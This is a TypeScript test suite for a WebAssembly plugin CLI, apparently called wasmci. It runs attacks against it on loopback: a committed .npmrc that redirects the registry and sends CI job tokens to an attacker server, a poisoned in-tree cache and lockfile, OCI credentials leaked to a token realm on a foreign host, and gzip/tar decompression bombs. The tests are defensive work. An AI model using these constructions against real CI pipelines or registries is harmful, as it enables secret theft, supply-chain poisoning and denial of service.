/**
 * Plugin sources under attack from the checked-out tree and from hostile origins (issue 15 items 2, 3, 4, 10), each
 * performed for real: a git checkout holding what a merge request can commit, the real CLI, real registries
 * (verdaccio, docker-registry, the GitLab-API test server) and loopback attacker servers that record every request.
 * The attacker's plugin (`pwned.wat`) answers "PWNED": it must never be what runs.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import * as tar from 'tar';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixture, runCli, tempDir } from './helpers/cli.js';
import { GitRepo } from './helpers/git.js';
import { DockerRegistry, TokenGate } from './servers/docker-registry.js';
import { GitlabTestServer } from './servers/gitlab.js';
import { Verdaccio } from './servers/verdaccio.js';

const JOB_TOKEN = 'job-token-hostile-5c2e9b1d';
const CI_SECRET = 'ci-variable-secret-8d3f0a7e';
const OCI_PASSWORD = 'oci-password-hostile-41d7';

let probe: Buffer;
let pwned: Buffer;
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

/** A clean environment: nothing of the machine's npm, docker, proxy or cache settings leaks in. */
function baseEnv(home: string, extra: Record<string, string> = {}): Record<string, string> {
  return {
    HOME: home,
    WASMCI_CACHE_DIR: '',
    WASMCI_SEED_CACHE: '',
    WASMCI_OFFLINE: '',
    WASMCI_HTTP_RETRY_BASE_MS: '20',
    WASMCI_HTTP_RETRIES: '1',
    WASMCI_OCI_USERNAME: '',
    WASMCI_OCI_PASSWORD: '',
    WASMCI_OCI_REGISTRY: '',
    WASMCI_OCI_TOKEN_HOSTS: '',
    DOCKER_CONFIG: path.join(home, '.docker'),
    NPM_CONFIG_USERCONFIG: '',
    npm_config_userconfig: '',
    NPM_CONFIG_REGISTRY: '',
    npm_config_registry: '',
    npm_command: '',
    CI_API_V4_URL: '',
    CI_PROJECT_DIR: '',
    CI_PROJECT_ID: '',
    CI_JOB_TOKEN: '',
    GITHUB_WORKSPACE: '',
    WASMCI_DEFAULT_SOURCE: '',
    HTTP_PROXY: '',
    HTTPS_PROXY: '',
    http_proxy: '',
    https_proxy: '',
    ...extra,
  };
}

interface Seen {
  method: string;
  url: string;
  authorization?: string;
  headers: http.IncomingHttpHeaders;
}

/** A loopback server that records every request and answers with `handle`. */
class Recorder {
  log: Seen[] = [];
  url = '';
  host = '';
  readonly server: http.Server;

  constructor(handle: (req: http.IncomingMessage, res: http.ServerResponse, self: Recorder) => void) {
    this.server = http.createServer((req, res) => {
      this.log.push({
        method: req.method ?? '',
        url: req.url ?? '',
        authorization: req.headers.authorization,
        headers: req.headers,
      });
      handle(req, res, this);
    });
  }

  async start(): Promise<this> {
    await new Promise<void>((r) => this.server.listen(0, '127.0.0.1', () => r()));
    this.host = `127.0.0.1:${(this.server.address() as AddressInfo).port}`;
    this.url = `http://${this.host}`;
    return this;
  }

  close(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((r) => this.server.close(() => r()));
  }
}

beforeAll(() => {
  probe = readFileSync(fixture('probe.wasm'));
  pwned = readFileSync(fixture('pwned.wasm'));
});

describe('item 2: a repository .npmrc cannot choose the npm registry or its credentials', () => {
  let reg: Verdaccio;
  let attacker: Recorder;
  let tarball: Buffer;
  let home: string;

  beforeAll(async () => {
    reg = await new Verdaccio(tempDir('wasmci-verdaccio-')).start();
    reg.publishPackage(
      { name: 'probe-plugin', version: '1.0.1', wasmci: { plugin: 'dist/probe.wasm' } },
      { 'dist/probe.wasm': probe },
    );
    reg.publishPackage(
      { name: '@private/probe', version: '2.0.0' },
      { 'wasmci-plugin.json': JSON.stringify({ wasm: 'plugin.wasm' }), 'plugin.wasm': probe },
    );
    // The attacker's registry serves a valid package for any name: its tarball holds the PWNED plugin.
    const dir = tempDir('wasmci-attacker-pkg-');
    mkdirSync(path.join(dir, 'package'));
    writeFileSync(path.join(dir, 'package/package.json'), JSON.stringify({ name: 'x', version: '1.0.1' }));
    writeFileSync(path.join(dir, 'package/plugin.wasm'), pwned);
    await tar.c({ gzip: true, file: path.join(dir, 'x.tgz'), cwd: dir }, ['package']);
    tarball = readFileSync(path.join(dir, 'x.tgz'));
    const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
    attacker = await new Recorder((req, res, self) => {
      if (req.url?.endsWith('.tgz')) return void res.writeHead(200).end(tarball);
      const name = decodeURIComponent((req.url ?? '/').slice(1));
      const version = name.startsWith('@') ? '2.0.0' : '1.0.1';
      const dist = { tarball: `${self.url}/-/x.tgz`, integrity };
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({ name, 'dist-tags': { latest: version }, versions: { [version]: { name, version, dist } } }),
      );
    }).start();
    // The trusted configuration: the runner's own ~/.npmrc, outside any checkout.
    home = tempDir('wasmci-home-');
    writeFileSync(
      path.join(home, '.npmrc'),
      `registry=${reg.url}\n@private:registry=${reg.url}\n${reg.nerfDart}:_authToken=\${VERDACCIO_TOKEN}\n`,
    );
  }, 120_000);

  afterAll(async () => {
    await attacker?.close();
    await reg?.stop();
  });

  /** A checkout whose committed .npmrc sends the registry, and the CI variables in its token, to the attacker. */
  function hostileCheckout(file = '.npmrc'): GitRepo {
    const nerf = `//${attacker.host}/`;
    const repo = GitRepo.init();
    repo.write(
      file,
      `registry=${attacker.url}/\n@private:registry=${attacker.url}/\n${nerf}:_authToken=\${CI_JOB_TOKEN}\${CI_SECRET}\n`,
    );
    repo.commit('merge request: add .npmrc');
    return repo;
  }

  const secrets = { CI_JOB_TOKEN: JOB_TOKEN, CI_SECRET };

  it('ignores the .npmrc of the checkout it runs in (warns), fetches from the trusted registry, sends the attacker nothing', async () => {
    const repo = hostileCheckout();
    const r = await runCli(['call', 'npm:probe-plugin@1.0.1', 'echo', '--input', 'trusted'], {
      cwd: repo.dir,
      env: baseEnv(home, { ...secrets, VERDACCIO_TOKEN: reg.token, WASMCI_CACHE_DIR: tempDir('wasmci-cache-') }),
    });
    expect(attacker.log).toEqual([]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.toString()).toBe('trusted');
    expect(r.stderr).toContain(`ignored ${path.join(repo.dir, '.npmrc')}: it is inside the checked-out tree`);
    expect(r.stderr).toMatch(/NPM_CONFIG_USERCONFIG/);
    expect(r.stderr.match(/ignored /g)).toHaveLength(1);
    for (const s of [JOB_TOKEN, CI_SECRET, reg.token]) expect(r.stderr).not.toContain(s);
  });

  it('in CI, also ignores a user config the pipeline pointed into the checkout: the scoped package fails, the attacker gets nothing', async () => {
    const repo = hostileCheckout('ci/npmrc');
    mkdirSync(path.join(repo.dir, 'sub'));
    const r = await runCli(['pull', 'npm:@private/probe@2.0.0'], {
      cwd: path.join(repo.dir, 'sub'),
      env: baseEnv(tempDir('wasmci-home-'), {
        ...secrets,
        CI: 'true',
        GITLAB_CI: 'true',
        CI_PROJECT_DIR: repo.dir,
        NPM_CONFIG_USERCONFIG: path.join(repo.dir, 'ci/npmrc'),
        NPM_CONFIG_REGISTRY: reg.url,
      }),
    });
    expect(attacker.log).toEqual([]);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/HTTP 40[134]/);
    expect(r.stderr).toContain(`ignored ${path.join(repo.dir, 'ci/npmrc')}`);
    for (const s of [JOB_TOKEN, CI_SECRET]) expect(r.stderr).not.toContain(s);
  });

  it('ignores npm_config_registry when npm launched wasmci (npx exports it from the project .npmrc)', async () => {
    const repo = hostileCheckout();
    const r = await runCli(['call', 'npm:probe-plugin@1.0.1', 'echo', '--input', 'npx'], {
      cwd: repo.dir,
      env: baseEnv(home, {
        ...secrets,
        npm_command: 'exec',
        npm_config_registry: `${attacker.url}/`,
        WASMCI_CACHE_DIR: tempDir('wasmci-cache-'),
      }),
    });
    expect(attacker.log).toEqual([]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.toString()).toBe('npx');
  });
});

describe('item 3: a cache or lockfile inside the checkout can refuse bytes, never supply them', () => {
  let gl: GitlabTestServer;
  const REF = 'gitlab:42/probe@1.2.0';

  beforeAll(async () => {
    gl = await new GitlabTestServer().start();
    gl.projects.push({ id: '42', path: 'group/plugins', public: false });
    gl.tokens.push({ header: 'JOB-TOKEN', value: JOB_TOKEN, read: ['42'], write: [] });
    gl.seed('42', 'probe', '1.2.0', 'probe.wasm', probe);
  });

  afterAll(async () => {
    await gl?.close();
  });

  /** GitLab CI: the project dir is the checkout, so the default cache is `$CI_PROJECT_DIR/.wasmci-cache`. */
  const ciEnv = (repo: GitRepo, extra: Record<string, string> = {}) =>
    baseEnv(tempDir('wasmci-home-'), {
      CI: 'true',
      GITLAB_CI: 'true',
      CI_PROJECT_DIR: repo.dir,
      CI_API_V4_URL: gl.api,
      CI_JOB_TOKEN: JOB_TOKEN,
      ...extra,
    });

  /**
   * A checkout where an honest `pull --lock` ran once (lockfile and in-tree cache), then a merge request that
   * plants the attacker's wasm in the cache, points the cache index at it and, with `lock`, re-pins the lockfile.
   */
  async function poisoned(lock: boolean): Promise<GitRepo> {
    const repo = GitRepo.init();
    repo.write('README.md', 'project\n').commit('init');
    const honest = await runCli(['pull', '--lock', REF], { cwd: repo.dir, env: ciEnv(repo) });
    expect(honest.code, honest.stderr).toBe(0);
    const cache = path.join(repo.dir, '.wasmci-cache');
    repo.write(`.wasmci-cache/blobs/sha256/${sha(pwned)}`, pwned);
    for (const f of readdirSync(path.join(cache, 'index'))) {
      const entry = JSON.parse(readFileSync(path.join(cache, 'index', f), 'utf8'));
      repo.write(`.wasmci-cache/index/${f}`, JSON.stringify({ ...entry, sha256: sha(pwned), size: pwned.length }));
    }
    if (lock) {
      const lockfile = JSON.parse(readFileSync(path.join(repo.dir, 'wasmci.lock'), 'utf8'));
      lockfile.plugins[REF] = { ...lockfile.plugins[REF], sha256: sha(pwned), size: pwned.length };
      repo.write('wasmci.lock', JSON.stringify(lockfile));
    }
    repo.commit('merge request: a faster plugin');
    return repo;
  }

  it('a poisoned cache + re-pinned lockfile: the origin is asked, the mismatch is refused, with and without --frozen', async () => {
    const repo = await poisoned(true);
    for (const extra of [[], ['--frozen']]) {
      const before = gl.log.length;
      const r = await runCli(['call', REF, 'echo', '--input', 'hi', ...extra], { cwd: repo.dir, env: ciEnv(repo) });
      expect(r.stdout.toString()).not.toContain('PWNED');
      expect(r.code, r.stderr).toBe(3);
      expect(r.stderr).toMatch(
        /hash mismatch: plugin gitlab:42\/probe@1\.2\.0 has sha256 [a-f0-9]{64}, but .*wasmci\.lock pins/,
      );
      expect(gl.log.length).toBe(before + 1);
    }
  });

  it('--offline with only the in-tree cache: a clear usage error naming the fix, nothing runs', async () => {
    const repo = await poisoned(true);
    const before = gl.log.length + gl.storage.log.length;
    const r = await runCli(['call', REF, 'echo', '--input', 'hi', '--offline'], { cwd: repo.dir, env: ciEnv(repo) });
    expect(r.stdout.toString()).not.toContain('PWNED');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/offline: plugin gitlab:42\/probe@1\.2\.0 is not in a trusted cache/);
    expect(r.stderr).toMatch(/inside the checked-out tree/);
    expect(r.stderr).toMatch(/--sha256.*WASMCI_CACHE_DIR/);
    expect(gl.log.length + gl.storage.log.length).toBe(before);
  });

  it('a poisoned cache index alone (no lockfile pin): the exact version comes from the origin, not the cache', async () => {
    const repo = await poisoned(false);
    repo.git('rm', '-q', 'wasmci.lock');
    repo.commit('merge request: no lockfile');
    const before = gl.log.length;
    const r = await runCli(['call', REF, 'echo', '--input', 'from origin'], { cwd: repo.dir, env: ciEnv(repo) });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.toString()).toBe('from origin');
    expect(gl.log.length).toBe(before + 1);
  });

  it('a file the checkout holds cannot stand in for a short reference through WASMCI_DEFAULT_SOURCE', async () => {
    const repo = GitRepo.init();
    repo.write('probe@1.2.0', pwned).commit('merge request: a file named like the plugin');
    const env = ciEnv(repo, { WASMCI_DEFAULT_SOURCE: 'gitlab:42' });
    const r = await runCli(['call', 'probe@1.2.0', 'echo', '--input', 'hi'], { cwd: repo.dir, env });
    expect(r.stdout.toString()).not.toContain('PWNED');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /names both a file in the checked-out tree .* and a package through WASMCI_DEFAULT_SOURCE/,
    );
    expect(r.stderr).toMatch(/write \.\/probe@1\.2\.0 to mean the file/);
    // Outside any checkout the file still wins (unchanged: a local file is never silently replaced by a download).
    const plain = tempDir('wasmci-plain-');
    writeFileSync(path.join(plain, 'probe@1.2.0'), probe);
    const local = await runCli(['call', 'probe@1.2.0', 'echo', '--input', 'local'], {
      cwd: plain,
      env: baseEnv(tempDir('wasmci-home-'), { WASMCI_DEFAULT_SOURCE: 'gitlab:42', CI_API_V4_URL: gl.api }),
    });
    expect(local.code, local.stderr).toBe(0);
    expect(local.stdout.toString()).toBe('local');
  });

  it('trusted pins still serve cached bytes offline: a cache outside the checkout, or --sha256 with the in-tree one', async () => {
    const repo = await poisoned(false);
    const outside = tempDir('wasmci-cache-');
    const fill = await runCli(['pull', REF], { cwd: repo.dir, env: ciEnv(repo, { WASMCI_CACHE_DIR: outside }) });
    expect(fill.code, fill.stderr).toBe(0);
    const before = gl.log.length + gl.storage.log.length;
    // The honest in-tree lockfile checks the outside cache's bytes and agrees.
    const offline = await runCli(['call', REF, 'echo', '--input', 'offline', '--offline', '--frozen'], {
      cwd: repo.dir,
      env: ciEnv(repo, { WASMCI_CACHE_DIR: outside }),
    });
    expect(offline.code, offline.stderr).toBe(0);
    expect(offline.stdout.toString()).toBe('offline');
    // The in-tree cache's honest blob, served because the pipeline's --sha256 names it.
    const pinned = await runCli(['call', REF, 'echo', '--input', 'pinned', '--offline', '--sha256', sha(probe)], {
      cwd: repo.dir,
      env: ciEnv(repo),
    });
    expect(pinned.code, pinned.stderr).toBe(0);
    expect(pinned.stdout.toString()).toBe('pinned');
    expect(gl.log.length + gl.storage.log.length).toBe(before);
    // And an in-tree lockfile that disagrees with the trusted cache refuses it (narrowing).
    const lockfile = {
      lockfileVersion: 1,
      plugins: { [REF]: { sha256: sha(pwned), size: pwned.length, resolved: 'x' } },
    };
    repo.write('wasmci.lock', JSON.stringify(lockfile)).commit('merge request: re-pin');
    const refused = await runCli(['call', REF, 'echo', '--offline'], {
      cwd: repo.dir,
      env: ciEnv(repo, { WASMCI_CACHE_DIR: outside }),
    });
    expect(refused.stdout.toString()).not.toContain('PWNED');
    expect(refused.code).toBe(3);
    expect(refused.stderr).toMatch(/hash mismatch/);
  });
});

describe('item 4: OCI credentials go only to their registry, and to a token service on its host', () => {
  let registry: DockerRegistry;
  let gate: TokenGate;
  let realm: Recorder;
  let hostile: Recorder;

  beforeAll(async () => {
    registry = await new DockerRegistry(tempDir('wasmci-registry-')).start();
    gate = await new TokenGate(registry.url, 'ci-user', OCI_PASSWORD).start();
    // A token service on another port (another host, as far as credentials go) that grants anything.
    realm = await new Recorder((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ token: 'realm-token-xyz123' }));
    }).start();
    // A registry a hostile reference names: it challenges with that token service, then answers 404.
    hostile = await new Recorder((req, res) => {
      if (req.headers.authorization?.startsWith('Bearer '))
        return void res.writeHead(404, { 'content-type': 'application/json' }).end('{"errors":[]}');
      res.writeHead(401, { 'www-authenticate': `Bearer realm="${realm.url}/token",service="evil"` }).end('{}');
    }).start();
  }, 60_000);

  afterAll(async () => {
    await hostile?.close();
    await realm?.close();
    await gate?.close();
    await registry?.stop();
  });

  const creds = (extra: Record<string, string> = {}) =>
    baseEnv(tempDir('wasmci-home-'), {
      WASMCI_OCI_USERNAME: 'ci-user',
      WASMCI_OCI_PASSWORD: OCI_PASSWORD,
      WASMCI_CACHE_DIR: tempDir('wasmci-cache-'),
      ...extra,
    });
  const basicSeen = (log: { authorization?: string }[]) => log.filter((l) => l.authorization?.startsWith('Basic'));

  it('scoped with WASMCI_OCI_REGISTRY: the named registry (realm on its host) works, another registry gets nothing', async () => {
    const ref = `oci://${gate.host}/gated/probe:1.0.0`;
    const scoped = creds({ WASMCI_OCI_REGISTRY: gate.host });
    const push = await runCli(['publish', fixture('probe.wasm'), '--oci', ref], { env: scoped });
    expect(push.code, push.stderr).toBe(0);
    const ok = await runCli(['call', ref, 'echo', '--input', 'gated'], { env: scoped });
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stdout.toString()).toBe('gated');

    const r = await runCli(['pull', `oci://${hostile.host}/evil/plugin:1.0.0`], { env: scoped });
    expect(r.code).toBe(3);
    expect(hostile.log.length).toBeGreaterThan(0);
    expect(hostile.log.filter((l) => l.authorization && !l.authorization.startsWith('Bearer realm-'))).toEqual([]);
    expect(basicSeen(realm.log)).toEqual([]);
    expect(r.stderr).not.toContain(OCI_PASSWORD);
  });

  it('unscoped credentials are not sent at all (warned once), not even to the right registry', async () => {
    const before = gate.log.length;
    const r = await runCli(['pull', `oci://${gate.host}/gated/probe:1.0.0`], { env: creds() });
    expect(r.code).toBe(3);
    expect(r.stderr.match(/not sent: name the registry they belong to with WASMCI_OCI_REGISTRY/g)).toHaveLength(1);
    expect(r.stderr).toMatch(/refused anonymous access/);
    expect(basicSeen(gate.log.slice(before))).toEqual([]);
  });

  it('a token realm on another host gets no Basic credentials unless WASMCI_OCI_TOKEN_HOSTS allows it', async () => {
    const ref = `oci://${hostile.host}/evil/plugin:1.0.0`;
    const mark = realm.log.length;
    const r = await runCli(['pull', ref], { env: creds({ WASMCI_OCI_REGISTRY: hostile.host }) });
    expect(r.code).toBe(3);
    expect(realm.log.length).toBeGreaterThan(mark);
    expect(basicSeen(realm.log)).toEqual([]);
    expect(r.stderr).toMatch(/token service of 127\.0\.0\.1:\d+ is on another host, 127\.0\.0\.1:\d+/);
    expect(r.stderr).toMatch(/WASMCI_OCI_TOKEN_HOSTS/);
    // The positive control: allowed explicitly, the same realm does get them (so the assertion above can fail).
    const allowed = await runCli(['pull', ref], {
      env: creds({ WASMCI_OCI_REGISTRY: hostile.host, WASMCI_OCI_TOKEN_HOSTS: realm.host }),
    });
    expect(allowed.code).toBe(3);
    const expected = `Basic ${Buffer.from(`ci-user:${OCI_PASSWORD}`).toString('base64')}`;
    expect(basicSeen(realm.log).map((l) => l.authorization)).toEqual([expected]);
    for (const x of [r, allowed]) expect(x.stderr).not.toContain(OCI_PASSWORD);
  });
});

describe('item 10: decompression bombs are refused with bounded memory', () => {
  const ZEROS = 16 * 1024 * 1024;
  let zeroMember: Buffer;

  /** `bytes` zeros as concatenated gzip members of 16 MiB each (~16 KB apiece): GBs in a few MB, built at once. */
  function zeroGzip(bytes: number): Buffer {
    zeroMember ??= gzipSync(Buffer.alloc(ZEROS), { level: 9 });
    return Buffer.concat(Array.from({ length: bytes / ZEROS }, () => zeroMember));
  }

  function tarHeader(name: string, size: number): Buffer {
    const h = Buffer.alloc(512);
    h.write(name, 0, 100);
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(`${size.toString(8).padStart(11, '0')}\0`, 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write('0', 156);
    h.write('ustar\0', 257);
    h.write('00', 263);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    return h;
  }

  const pad = (n: number) => Buffer.alloc((512 - (n % 512)) % 512);
  const GiB = 1024 * 1024 * 1024;

  it('a few-MB .tar.gz bundle inflating to 1.5 GiB (eight 192 MiB entries) fails fast in a bounded process', async () => {
    const entry = 192 * 1024 * 1024;
    const parts: Buffer[] = [];
    for (let i = 0; i < 8; i++) parts.push(gzipSync(tarHeader(`bundle/filler-${i}.bin`, entry)), zeroGzip(entry));
    const meta = Buffer.from(JSON.stringify({ wasm: 'probe.wasm' }));
    parts.push(
      gzipSync(
        Buffer.concat([
          tarHeader('bundle/wasmci-plugin.json', meta.length),
          meta,
          pad(meta.length),
          tarHeader('bundle/probe.wasm', probe.length),
          probe,
          pad(probe.length),
          Buffer.alloc(1024),
        ]),
      ),
    );
    const file = path.join(tempDir('wasmci-bomb-'), 'bomb.tar.gz');
    writeFileSync(file, Buffer.concat(parts));
    expect(readFileSync(file).length).toBeLessThan(4 * 1024 * 1024);
    const r = await runCli(['call', file, 'echo', '--input', 'x'], { env: baseEnv(tempDir()), timeoutMs: 60_000 });
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/bomb\.tar\.gz inflates to more than 512 MiB: refused/);
    expect(r.peakRssMiB).toBeLessThan(400);
    expect(r.durationMs).toBeLessThan(15_000);
  });

  it('an endless or over-declared plain body is cut off at the 16 MiB document cap, not buffered', async () => {
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    const endless = await new Recorder((req, res) => {
      const declared = req.url?.includes('/declared/');
      res.writeHead(200, {
        'content-type': 'application/json',
        ...(declared ? { 'content-length': String(GiB) } : {}),
      });
      const pump = () => {
        while (!res.destroyed && res.write(chunk)) {}
        if (!res.destroyed) res.once('drain', pump);
      };
      res.on('close', () => res.removeAllListeners('drain'));
      pump();
    }).start();
    try {
      for (const repo of ['declared', 'chunked']) {
        const r = await runCli(['pull', `oci://${endless.host}/${repo}/x:1.0.0`], {
          env: baseEnv(tempDir(), { WASMCI_CACHE_DIR: tempDir() }),
          timeoutMs: 60_000,
        });
        expect(r.code, r.stderr).toBe(3);
        expect(r.stderr).toMatch(
          repo === 'declared' ? /declares 1073741824 bytes, more than 16 MiB/ : /is more than 16 MiB/,
        );
        expect(r.peakRssMiB).toBeLessThan(400);
        expect(r.durationMs).toBeLessThan(15_000);
      }
    } finally {
      await endless.close();
    }
  });

  it('gzip-encoded bomb answers (an OCI manifest, an npm packument) are refused past 16 MiB, memory bounded', async () => {
    const body = zeroGzip(GiB);
    const bomb = await new Recorder((_req, res) => {
      res.writeHead(200, {
        'content-type': 'application/json',
        'content-encoding': 'gzip',
        'content-length': String(body.length),
      });
      res.end(body);
    }).start();
    try {
      const oci = await runCli(['pull', `oci://${bomb.host}/plugins/bomb:1.0.0`], {
        env: baseEnv(tempDir(), { WASMCI_CACHE_DIR: tempDir() }),
        timeoutMs: 60_000,
      });
      const npm = await runCli(['pull', 'npm:bomb@1.0.0'], {
        env: baseEnv(tempDir(), { WASMCI_CACHE_DIR: tempDir(), NPM_CONFIG_REGISTRY: `${bomb.url}/` }),
        timeoutMs: 60_000,
      });
      expect(bomb.log.map((l) => l.url)).toEqual(['/v2/plugins/bomb/manifests/1.0.0', '/bomb']);
      for (const r of [oci, npm]) {
        expect(r.code, r.stderr).toBe(3);
        expect(r.stderr).toMatch(/content-encoding gzip, \d+ bytes\) inflates to more than 16 MiB/);
        expect(r.peakRssMiB).toBeLessThan(400);
        expect(r.durationMs).toBeLessThan(15_000);
      }
    } finally {
      await bomb.close();
    }
  });
});
